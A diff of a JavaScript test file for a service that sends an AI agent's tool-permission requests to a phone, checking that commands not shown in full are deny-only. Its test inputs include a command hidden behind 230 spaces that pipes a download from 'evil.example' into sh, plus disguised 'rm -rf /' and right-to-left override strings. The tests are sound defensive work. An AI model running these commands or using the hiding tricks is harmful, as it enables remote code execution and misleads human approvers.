@@ -278,18 +278,45 @@ test('the mock push service decrypts RFC 8291’s example message and checks VAP
 test('the service worker turns §9 payloads into notifications (sw.js run in a Node sandbox)', () => {
   const listeners = {};
   const self = { addEventListener: (t, f) => { listeners[t] = f; }, location: { origin: 'https://relay.example' } };
-  vm.runInNewContext(readFileSync(path.join(here, '..', 'sw.js'), 'utf8'), { self, caches: {}, URL, Date, fetch: () => { throw new Error('no'); } });
+  vm.runInNewContext(readFileSync(path.join(here, '..', 'sw.js'), 'utf8'), { self, caches: {}, URL, URLSearchParams, Date, fetch: () => { throw new Error('no'); } });
   assert.deepEqual(Object.keys(listeners).sort(), ['activate', 'fetch', 'install', 'notificationclick', 'push', 'pushsubscriptionchange']);
   // Values made in the sandbox have its Array/Object prototypes: compare them as JSON.
   const plain = (x) => JSON.parse(JSON.stringify(x));
   const n = self.ccrelayNotify;
-  const perm = n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r7', tool: 'Bash', summary: 'rm -rf build', actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
+  const perm = n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r7', tool: 'Bash', summary: 'rm -rf build', complete: true, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
   assert.equal(perm.title, 'Bash needs permission (default)');
   assert.equal(perm.options.body, 'rm -rf build');
   assert.equal(perm.options.tag, 'default/r7');
   assert.equal(perm.options.requireInteraction, true);
   assert.deepEqual(plain(perm.options.actions), [{ action: 'allow', title: 'Allow' }, { action: 'deny', title: 'Deny' }]);
   assert.deepEqual(plain(perm.options.data.tokens), { allow: 'A', deny: 'D' });
+  assert.equal(perm.options.data.complete, true);
+  // A complete command is shown exactly (its spaces kept).
+  assert.equal(n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r8', tool: 'Bash', summary: 'git  log   -1', complete: true, actions: [] }).options.body, 'git  log   -1');
+  // Allow never for a request not shown whole: the server says so, or the summary
+  // could not show it as it is (too long, a newline, an invisible character).
+  const hiddenTail = `echo hello${' '.repeat(230)}; curl https://evil.example/x|sh`;
+  for (const [summary, complete] of [
+    ['ls', false],
+    ['ls', undefined],
+    ['ls', 'true'],
+    [hiddenTail, true],
+    ['e'.repeat(151), true],
+    ['echo a\necho b', true],
+    ['echo \u202etxt.exe', true],
+    ['rm\u200b -rf /', true],
+    ['ls\u00a0-l', true],
+    ['ls\ufe0f', true],
+    ['', true],
+  ]) {
+    const inc = n.notificationFor({ kind: 'permission', session: 'default', request_id: 'r9', tool: 'Bash', summary, complete, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
+    assert.deepEqual(plain(inc.options.actions), [{ action: 'deny', title: 'Deny' }], JSON.stringify(summary));
+    assert.deepEqual(plain(inc.options.data.tokens), { deny: 'D' }, 'the allow token is not even kept');
+    assert.match(inc.options.body, /Open to see the whole request/);
+  }
+  assert.equal(n.pageTarget('default', 'r9'), '#request=r9&session=default');
+  assert.equal(n.pageTarget('my session', 'a&b'), '#request=a%26b&session=my+session');
+  assert.equal(n.pageTarget('work', null), '#session=work');
   // Only actions that carry a token become buttons.
   const question = n.notificationFor({ kind: 'permission', session: 's', request_id: 'r', tool: 'AskUserQuestion', summary: 'Which branch?', actions: [{ action: 'allow' }] });
   assert.equal(question.options.actions.length, 0);
@@ -314,6 +341,31 @@ test('the service worker turns §9 payloads into notifications (sw.js run in a N
   assert.equal(n.outcomeText('allow', { status: 409 }, perm.options.data).title, 'Already answered');
   assert.equal(n.outcomeText('allow', { status: 403 }, perm.options.data).title, 'Expired');
   assert.equal(n.outcomeText('allow', { error: 'timeout' }, perm.options.data), null, 'not answered: the actions stay');
+});
+
+test('a click on a notification the worker cannot allow from opens the page at the request (sw.js in a Node sandbox)', async () => {
+  const self = { addEventListener: () => {}, location: { origin: 'https://relay.example' } };
+  const posted = [];
+  vm.runInNewContext(readFileSync(path.join(here, '..', 'sw.js'), 'utf8'), { self, caches: {}, URL, URLSearchParams, Date, fetch: () => { throw new Error('no network: nothing may be answered'); } });
+  const opened = [];
+  let open = [];
+  self.clients = {
+    matchAll: async () => open,
+    openWindow: async (url) => opened.push(url),
+  };
+  const n = self.ccrelayNotify;
+  const inc = n.notificationFor({ kind: 'permission', session: 'work', request_id: 'r1', tool: 'Write', summary: '/p/a.txt', complete: false, actions: [{ action: 'allow', token: 'A' }, { action: 'deny', token: 'D' }] });
+  const note = { data: inc.options.data, tag: inc.options.tag, title: 'x', close: () => {} };
+  // "allow" (an action this notification never showed) answers nothing: it opens the page.
+  await n.onClick(note, 'allow');
+  await n.onClick(note, '');
+  assert.deepEqual(opened, ['/#request=r1&session=work', '/#request=r1&session=work']);
+  // A page already open is focused and told where to go.
+  let focused = 0;
+  open = [{ url: 'https://relay.example/', focus: async () => { focused += 1; }, postMessage: (m) => posted.push(m) }];
+  await n.onClick(note, '');
+  assert.equal(focused, 1);
+  assert.deepEqual(JSON.parse(JSON.stringify(posted)), [{ type: 'ccrelay.open', hash: '#request=r1&session=work' }]);
 });
 
 // ---- in the browser ------------------------------------------------------------------
@@ -431,7 +483,7 @@ test('a viewer’s page has no notification control; a blocked permission says s
 test('a delivered push shows the permission notification with its actions and tag; dismiss replaces it', { skip: !enabled }, async () => {
   assert.ok(phone, 'the first test opened the owner page');
   const w = await worker(phone.context, phone.page);
-  const payload = { kind: 'permission', session: 'default', request_id: 'req-sim-1', tool: 'Bash', summary: "sh -c 'echo hi'", actions: [{ action: 'allow', token: 'tok-a' }, { action: 'deny', token: 'tok-d' }] };
+  const payload = { kind: 'permission', session: 'default', request_id: 'req-sim-1', tool: 'Bash', summary: "sh -c 'echo hi'", complete: true, actions: [{ action: 'allow', token: 'tok-a' }, { action: 'deny', token: 'tok-d' }] };
   await w.deliver(payload);
   const [n] = await notificationsUntil(w, 'default/req-sim-1', (l) => l.length === 1, 'the permission notification');
   assert.equal(n.title, 'Bash needs permission (default)');
@@ -457,7 +509,7 @@ test('a delivered push shows the permission notification with its actions and ta
 
 test('Allow from the notification with a token the server never made is refused, and the notification says so', { skip: !enabled }, async () => {
   const w = await worker(phone.context, phone.page);
-  await w.deliver({ kind: 'permission', session: 'default', request_id: 'req-bogus', tool: 'Bash', summary: 'ls', actions: [{ action: 'allow', token: 'bogus-token' }, { action: 'deny', token: 'bogus-2' }] });
+  await w.deliver({ kind: 'permission', session: 'default', request_id: 'req-bogus', tool: 'Bash', summary: 'ls', complete: true, actions: [{ action: 'allow', token: 'bogus-token' }, { action: 'deny', token: 'bogus-2' }] });
   await notificationsUntil(w, 'default/req-bogus', (l) => l.length === 1, 'the notification');
   await w.click('default/req-bogus', 'allow');
   const [n] = await notificationsUntil(w, 'default/req-bogus', (l) => l.length === 1 && (l[0].title !== 'Bash needs permission (default)' || /Not answered/.test(l[0].body)), 'the outcome');
@@ -544,5 +596,56 @@ test('the whole chain: the server’s push for a real request, decrypted, shown,
   const token = p2.payload.actions.find((a) => a.action === 'allow').token;
   const late = await fetch(`${server.base}/v1/push/respond`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token }) });
   assert.equal(late.status, 409);
+  assert.deepEqual(phone.page.errors, []);
+});
+
+test('a request not shown whole is deny-only, and a click opens the page at its card', { skip: !enabled }, async (t) => {
+  if (!(features.webpush && features.respond && FLAGS.insecure && FLAGS.notifyAfter)) {
+    t.skip('SKIPPED: needs Web Push and the notifier in this build (webpush + notifier branches)');
+    return;
+  }
+  const { page, context } = phone;
+  const w = await worker(context, page);
+  const from = term.frames.length;
+  const fromPush = mock.received.length;
+  await term.request({ type: 'prompt', session: 'default', content: 'please write-file deep-link.txt' });
+  const req = await term.wait((f) => f.type === 'event' && f.event.type === 'control_request', { from });
+  const id = req.event.request_id;
+  const push = await mock.wait((p) => p.error || (p.payload.kind === 'permission' && p.payload.request_id === id), { from: fromPush });
+  assert.equal(push.error, undefined, push.error);
+  assert.equal(push.payload.tool, 'Write');
+  assert.equal(push.payload.complete, false, 'a Write is never shown whole');
+  assert.deepEqual(push.payload.actions.map((a) => a.action), ['deny']);
+
+  await w.deliver(push.payload);
+  const tag = `default/${id}`;
+  const [n] = await notificationsUntil(w, tag, (l) => l.length === 1, 'the notification');
+  assert.deepEqual(n.actions.map((a) => a.action), ['deny'], 'no Allow button');
+  assert.match(n.body, /Open to see the whole request/);
+
+  // A click on it (not on Deny) brings this page to the request's card.
+  await page.evaluate(() => window.scrollTo(0, 0));
+  await w.click(tag, '');
+  const selector = `[data-testid="permission-card"][data-request-id="${id}"]`;
+  assert.equal(await waitAttr(page.locator(selector), 'data-focused', (v) => v === 'true'), 'true');
+  const inView = (p) => p.locator(selector).evaluate((el) => {
+    const r = el.getBoundingClientRect();
+    return r.bottom > 0 && r.top < window.innerHeight;
+  });
+  assert.equal(await inView(page), true, 'scrolled into view');
+  // Its diff is there to read, and Allow is on the card, in the page.
+  assert.equal(await page.locator(`${selector} [data-testid="permission-allow"]`).count(), 1);
+
+  // A page opened at the notification's address lands there too, and drops the fragment.
+  const other = await context.newPage();
+  await other.goto(`${server.base}/#request=${encodeURIComponent(id)}&session=default`);
+  assert.equal(await waitAttr(other.locator(selector), 'data-focused', (v) => v === 'true'), 'true');
+  assert.equal(await inView(other), true);
+  assert.equal(new URL(other.url()).hash, '', 'the fragment is removed once handled');
+  await other.close();
+
+  await term.request({ type: 'respond', session: 'default', request_id: id, response: { behavior: 'deny' } });
+  await term.wait((f) => f.type === 'event' && f.event.type === 'result', { from });
+  assert.equal(existsSync(path.join(server.workdir, 'deep-link.txt')), false);
   assert.deepEqual(phone.page.errors, []);
 });
